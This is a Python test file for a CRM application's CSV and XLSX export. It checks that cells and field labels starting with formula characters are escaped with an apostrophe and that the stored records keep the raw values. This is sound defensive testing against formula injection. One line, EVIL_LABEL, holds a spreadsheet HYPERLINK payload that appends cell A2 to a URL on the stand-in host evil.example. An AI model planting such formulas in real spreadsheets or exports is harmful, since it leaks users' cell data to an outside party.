"""Exports never carry a live formula (issue 8, deliverable 7): headers and cells, CSV and XLSX.

A spreadsheet runs a cell that starts with = + - @ (and a tab or carriage return
before them, or the full-width signs that Excel also takes); an export writes
such a text behind an apostrophe. Headers are the fields' labels, which an
admin may set to anything, so they are escaped too. Through the screens, on
the demo (the export route reads the same records service on both databases:
its row scope is covered by tests/integration/permissions).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from openpyxl import load_workbook
from starlette.testclient import TestClient

from engine.actor import Actor
from engine.configure.changes import EditField
from engine.configure.service import ConfigService
from engine.configure.specs import FieldSpec
from tests.ui.conftest import CRM, SECRET, make_demo, make_record, sign_in
from ui.app import create_app
from ui.screens.records.export import safe_cell

STARTERS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
            "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"]
#: Text fields trim surrounding white space, so only these reach a stored value.
STORED = [text for text in STARTERS if not text[0].isspace()]
EVIL_LABEL = '=HYPERLINK("http://evil.example/?"&A2,"Name")'


@pytest.mark.parametrize("text", STARTERS)
def test_every_formula_start_is_escaped(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "1+1", " =1", "'=1", "", "Zhang =1", "北京"])
def test_other_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Any, TestClient]]:
    db = make_demo(tmp_path_factory.mktemp("export"), rows=2)
    runtime = db.live.current()
    name = runtime.registry.entity("customer").field("name")
    spec = FieldSpec.from_document({"name": "name", "type": "text",
                                    "label": {"en": EVIL_LABEL, "zh-CN": EVIL_LABEL},
                                    "required": True,
                                    "max_length": name.max_length or 200})
    admin = runtime.policy.actor_for(db.user_id("admin"), login="admin")  # type: ignore[attr-defined]
    ConfigService(runtime.engine, apps=[CRM]).apply(EditField("customer", spec), admin)
    db.live.refresh()
    for i, text in enumerate(STORED):
        make_record(db, "customer", {"name": f"{text} #{i}"}, owner="rep_west1")
    app = create_app(db.live, secret_key=SECRET, upload_dir=db.upload_dir)
    client = TestClient(app, base_url="http://testserver")
    client.cookies.set("tp_lang", "en")
    sign_in(client, "sup_west")
    yield db, client
    client.close()
    db.live.dispose()


def test_csv_headers_and_cells_are_text(exported: tuple[Any, TestClient]) -> None:
    _, client = exported
    response = client.get("/e/customer/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert "'" + EVIL_LABEL in rows[0] and EVIL_LABEL not in rows[0]
    names = {r[rows[0].index("'" + EVIL_LABEL)] for r in rows[1:]}
    for i, text in enumerate(STORED):
        assert f"'{text} #{i}" in names, (text, names)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "\uff1d", "\uff0b",
                                        "\uff20")), cell


def test_xlsx_headers_and_cells_are_never_formulas(exported: tuple[Any, TestClient]) -> None:
    _, client = exported
    response = client.get("/e/customer/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    header = [c.value for c in next(sheet.iter_rows())]
    assert "'" + EVIL_LABEL in header
    values = {str(c.value) for c in cells}
    for i, text in enumerate(STORED):
        assert f"'{text} #{i}" in values, text


def test_the_engine_still_holds_the_raw_values(exported: tuple[Any, TestClient]) -> None:
    db, _ = exported   # escaping is for spreadsheets only: the record keeps what was typed
    page = db.live.current().records.list(Actor.system(), "customer")
    assert any(r["name"] == "=1+1 #0" for r in page.rows)
